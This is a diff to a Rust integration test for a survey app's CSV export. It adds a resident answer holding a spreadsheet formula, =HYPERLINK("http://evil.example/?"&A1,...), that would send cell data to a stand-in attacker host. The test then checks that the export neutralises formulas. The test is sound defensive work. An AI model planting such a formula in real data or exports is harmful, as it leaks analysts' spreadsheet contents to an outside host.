@@ -83,6 +83,10 @@ async fn results_match_the_fixture_and_publish_only_safe_aggregates(db: Db) {
         if *resident % 7 == 0 {
             answers["idea"] = json!(format!("Idea from a resident {}", resident % 3));
         }
+        if Some(resident) == residents.last().map(|(r, _)| r) {
+            // A formula a spreadsheet would run when an analyst opens the CSV (the last text, after those reviewed).
+            answers["idea"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"Idea\")");
+        }
         let token = invitation_token(&secret, id, *resident);
         let (status, body) =
             api(&app, &editor, "POST", &format!("/api/v1/responses/{token}"), Some(json!({"answers": answers}))).await;
@@ -165,6 +169,13 @@ async fn results_match_the_fixture_and_publish_only_safe_aggregates(db: Db) {
     let responses = official.get(&format!("/official/surveys/{id}/responses.csv")).await.text().await.unwrap();
     assert_eq!(responses.lines().count(), 61);
     assert!(!responses.contains('@') && !responses.contains('T'), "no emails, no times: {responses}");
+    // Formulas are neutralised: the resident's text is kept, behind a quote, and no cell starts a formula.
+    assert!(responses.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Idea\"\")\""), "{responses}");
+    for line in responses.lines() {
+        for cell in line.split(',') {
+            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@']), "a formula cell: {line}");
+        }
+    }
     app.stop().await;
 }
 
